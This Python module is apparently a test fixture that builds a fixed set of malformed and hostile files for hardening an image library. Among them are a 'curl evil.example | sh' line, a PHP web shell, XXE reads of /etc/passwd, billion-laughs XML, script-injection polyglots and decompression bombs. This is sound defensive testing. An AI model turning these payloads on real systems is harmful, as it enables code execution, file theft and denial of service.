"""Almost three hundred files that mean no good, or have come to harm on their way. The same on every run."""

import random
import struct
import zlib
from collections.abc import Iterator
from functools import cache
from io import BytesIO

from PIL import Image as Pillow
from PIL import ImageCms

from images.tests import samples

Files = dict[str, bytes]
CUTS, FLIPS = 8, 8
MEGABYTE = 1024 * 1024


@cache
def files() -> Files:
    """Every file, by what is wrong with it."""
    chance = random.Random(20260301)
    return dict(
        pair
        for kind in (mislabelled(), claims(), bombs(), metadata(), cut(), flipped(chance), made_up(chance))
        for pair in kind
    )


# --- Not pictures ---------------------------------------------------------------------------------

Named = Iterator[tuple[str, bytes]]


def mislabelled() -> Named:
    """Other files, as `.jpg`; and pictures that are something else too."""
    picture, gif = samples.half_and_half(), samples.encoded("GIF")
    yield "one byte", b"\xff"
    yield "spaces", b" " * 5000
    yield "zeros", bytes(5000)
    yield "a page", b"<!doctype html><script>alert(1)</script>"
    yield "a page after a blank", b"\n\n  <html><body onload=alert(1)>"
    yield "a drawing", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
    yield (
        "a drawing with a head",
        b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><svg/>",
    )
    yield "a packed drawing", zlib.compress(b"<svg/>" * 1000)
    yield "a PDF", b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj"
    yield "an archive", b"PK\x03\x04" + bytes(300)
    yield "a program", b"MZ" + bytes(300)
    yield "a program of another house", b"\x7fELF" + bytes(300)
    yield "a script", b"#!/bin/sh\ncurl evil.example | sh\n"
    yield "PHP", b"<?php system($_GET['c']); ?>"
    yield "PostScript", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n"
    yield "a pixmap", b"P6 64000 64000 255\n"
    yield "a HEIC", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(200)
    yield "a film", b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2" + bytes(200)
    yield "a Photoshop file", b"8BPS\x00\x01" + bytes(200)
    for kind in ("TIFF", "BMP", "TGA", "ICO", "PCX", "PPM", "SGI", "JPEG2000"):
        yield f"a {kind}", samples.encoded(kind, size=(64, 48))
    yield "a picture and an archive", picture + b"PK\x03\x04SECRET" + bytes(200)
    yield "a picture and a page", picture + b"<script>SECRET</script>"
    yield "a comment with a page", samples.half_and_half(comment=b"<script>SECRET</script>")
    yield "a GIF that is a script", gif[:6] + b"/*" + gif[8:] + b"*/=1;alert('SECRET')"
    yield "a PDF and a picture", b"%PDF-1.4\n" + picture
    yield "only a JPEG's beginning", b"\xff\xd8\xff\xe0"
    yield "only a PNG's beginning", b"\x89PNG\r\n\x1a\n"
    yield "only a WebP's beginning", b"RIFF\x04\x00\x00\x00WEBP"
    yield "only a GIF's beginning", b"GIF89a"
    yield "only an AVIF's beginning", b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf"
    for kind in ("GIF", "PNG", "WEBP", "AVIF"):
        yield f"one that moves as {kind}", samples.animated(kind)


# --- Too much -------------------------------------------------------------------------------------


def claims() -> Named:
    """Headers that promise more than there is, or than anybody wants."""
    for width, height in (
        (60_000, 60_000),
        (2**31 - 1, 1),
        (2**31 - 1, 2**31 - 1),
        (7_100, 7_100),
        (16_001, 1),
        (0, 0),
    ):
        yield f"a PNG of {width} × {height}", samples.png_that_claims(width, height)
    yield "a PNG of almost too many pixels, and few bytes", samples.png_that_claims(7_000, 7_000)
    jpeg, gif = samples.half_and_half(), samples.encoded("GIF")
    at = jpeg.index(b"\xff\xc0") + 5
    for width, height in ((65_535, 65_535), (16_000, 3_100), (0, 0), (65_535, 1)):
        yield f"a JPEG of {width} × {height}", jpeg[:at] + struct.pack(">HH", height, width) + jpeg[at + 4 :]
        yield f"a GIF of {width} × {height}", gif[:6] + struct.pack("<HH", width, height) + gif[10:]
    vp8x = b"VP8X" + struct.pack("<I", 10) + b"\x10\0\0\0" + b"\xfe\x3f\0" * 2
    for name, body in (("lossy", samples.encoded("WEBP")[12:]), ("nothing", b"")):
        whole = b"WEBP" + vp8x + body
        yield f"a WebP of 16383 × 16383 with {name}", b"RIFF" + struct.pack("<I", len(whole)) + whole
    avif = samples.encoded("AVIF")
    at = avif.index(b"ispe") + 8
    for side in (65_535, 12_000, 0, 2**32 - 1):
        yield f"an AVIF of {side} × {side}", avif[:at] + struct.pack(">II", side, side) + avif[at + 8 :]
    yield "a heavy file", b"\xff\xd8\xff" + bytes(25 * MEGABYTE)
    yield "a heavy picture", samples.half_and_half() + bytes(25 * MEGABYTE)


def bombs() -> Named:
    """Small files that unpack to a lot."""
    for name, size in (("PNG, all black", (7_000, 7_000)), ("PNG, long", (16_000, 3_000))):
        rows = packed(size[1] * (1 + size[0] * 3))
        yield f"a {name}", png(header(*size), (b"IDAT", rows))
    yield "a PNG of far more than its header says", png(header(64, 64), (b"IDAT", packed(200 * MEGABYTE)))
    for kind, begins in ((b"zTXt", b"a\0\0"), (b"iTXt", b"a\0\1\0\0\0"), (b"iCCP", b"a\0\0")):
        bomb = (kind, begins + packed(200 * MEGABYTE))
        yield f"a packed {kind.decode()}", png(header(64, 64), bomb, (b"IDAT", packed(64 * 193)))
    texts = [(b"tEXt", b"k%d\0" % n + b"x" * 60) for n in range(20_000)]
    yield "twenty thousand texts", png(header(64, 64), *texts, (b"IDAT", packed(64 * 193)))
    yield "a JPEG of three hundred scans", with_many_scans(300)
    yield "a large JPEG of many scans", with_many_scans(1_500, (3_000, 2_000))
    big = Pillow.new("1", (4_000, 3_000))
    yield "a GIF of twelve million pixels", samples.saved(big, "GIF")
    yield "a WebP of twelve million pixels", samples.saved(big.convert("RGB"), "WEBP", method=0)
    yield "a lossless WebP of the longest side", samples.saved(Pillow.new("RGB", (16_000, 900)), "WEBP", lossless=True)
    yield "a very tall JPEG", samples.encoded("JPEG", size=(700, 16_000))
    yield "a very narrow JPEG", samples.encoded("JPEG", size=(1, 16_000))


def metadata() -> Named:
    """Blocks beside the pixels that are broken, endless or dangerous."""
    loop = b"MM\0*\0\0\0\x08" + struct.pack(">HHHIII", 1, 0x8769, 4, 1, 8, 8)
    many = b"II*\0\x08\0\0\0" + struct.pack("<H", 5_000) + struct.pack("<HHII", 0x010E, 2, 2**31, 8) * 5_000
    for name, block in (
        ("a folder in itself", loop),
        ("five thousand entries", many[:65_000]),
        ("an entry of two gigabytes", b"II*\0\x08\0\0\0" + struct.pack("<HHHIII", 1, 0x013B, 2, 2**31 - 1, 8, 0)),
        ("an orientation of 99", samples.exif({samples.ORIENTATION: 99})),
        ("noise", bytes(range(256)) * 40),
        ("nothing", b""),
    ):
        yield f"EXIF with {name}", samples.half_and_half(exif=b"Exif\0\0" + block)
        yield f"a PNG's EXIF with {name}", samples.half_and_half("PNG", exif=block or b"\0")
    laughs = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
    for name, packet in (
        ("laughing entities", f"<!DOCTYPE x [<!ENTITY l0 'ha'>{laughs}]><x>&l9;</x>".encode()),
        ("a foreign entity", b"<!DOCTYPE x [<!ENTITY f SYSTEM 'file:///etc/passwd'>]><x>&f;</x>"),
        ("a deep tree", b"<a>" * 9_000 + b"</a>" * 9_000),
        ("a wide tree", b"<a>" + b"<b/>" * 15_000 + b"</a>"),
        ("an open tag", b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf"),
        ("noise", bytes(range(256)) * 200),
    ):
        yield f"XMP with {name}", samples.half_and_half(xmp=packet)
    yield "XMP of four megabytes", samples.half_and_half("PNG", pnginfo=samples.xmp_text("<a>" + "x" * 4 * MEGABYTE))
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    for at in range(0, len(profile), len(profile) // 12):
        broken = profile[:at] + b"\xff\xff\xff\xff" + profile[at + 4 :]
        yield f"a profile broken at {at}", samples.half_and_half(icc_profile=broken)
    block = b"Photoshop 3.0\x008BIM\x04\x04\0\0\xff\xff\xff\xff" + b"\x1c\x02\x78\xff\xff" * 500
    segment = b"\xff\xed" + struct.pack(">H", len(block) + 2) + block
    picture = samples.half_and_half()
    yield "IPTC that claims four gigabytes", picture[:2] + segment + picture[2:]
    beside = b"\xff\xe1\xff\xfe" + b"http://ns.adobe.com/xap/1.0/\0" + b" " * 65_503
    yield "three hundred blocks", picture[:2] + beside * 300 + picture[2:]


# --- Come to harm ---------------------------------------------------------------------------------


@cache
def whole() -> Files:
    """A sound picture of each kind."""
    return {
        "JPEG": samples.half_and_half("JPEG"),
        "progressive JPEG": samples.half_and_half("JPEG", progressive=True),
        "telephone’s JPEG": samples.from_a_telephone(),
        "CMYK JPEG": samples.encoded("JPEG", mode="CMYK"),
        "PNG": samples.half_and_half("PNG"),
        "PNG of a palette": samples.encoded("PNG", mode="P"),
        "WebP": samples.half_and_half("WEBP"),
        "lossless WebP": samples.half_and_half("WEBP", lossless=True),
        "AVIF": samples.half_and_half("AVIF"),
        "GIF": samples.half_and_half("GIF"),
    }


def cut() -> Named:
    """Files that ended too early."""
    for kind, data in whole().items():
        for part in range(1, CUTS + 1):
            yield f"a {kind} cut at {part}/{CUTS + 1}", data[: len(data) * part // (CUTS + 1)]


def flipped(chance: random.Random) -> Named:
    """Files with a few wrong bytes."""
    for kind, data in whole().items():
        for n in range(FLIPS):
            spoilt = bytearray(data)
            for _ in range(1 + n):
                spoilt[chance.randrange(len(data))] ^= 1 << chance.randrange(8)
            yield f"a {kind} with wrong bytes, {n}", bytes(spoilt)


def made_up(chance: random.Random) -> Named:
    """A true beginning, and noise."""
    for kind, data in whole().items():
        for begins in (16, 64):
            yield f"a {kind} of noise after {begins}", data[:begins] + chance.randbytes(3_000)


# --- Parts ----------------------------------------------------------------------------------------


def packed(size: int) -> bytes:
    """So many zeros, packed, without having them all at once."""
    packer, parts = zlib.compressobj(9), []
    for at in range(0, size, MEGABYTE):
        parts.append(packer.compress(bytes(min(MEGABYTE, size - at))))
    return b"".join([*parts, packer.flush()])


def header(width: int, height: int) -> tuple[bytes, bytes]:
    return b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)


def png(*chunks: tuple[bytes, bytes]) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in (*chunks, (b"IEND", b""))
    )


def with_many_scans(count: int, size: tuple[int, int] = (1_000, 800)) -> bytes:
    """A progressive JPEG whose last scan comes again and again: each costs a walk through the whole picture."""
    out = BytesIO()
    Pillow.new("RGB", size, "teal").save(out, "JPEG", progressive=True)
    data = out.getvalue()
    return data[:-2] + data[data.rindex(b"\xff\xda") : -2] * count + data[-2:]
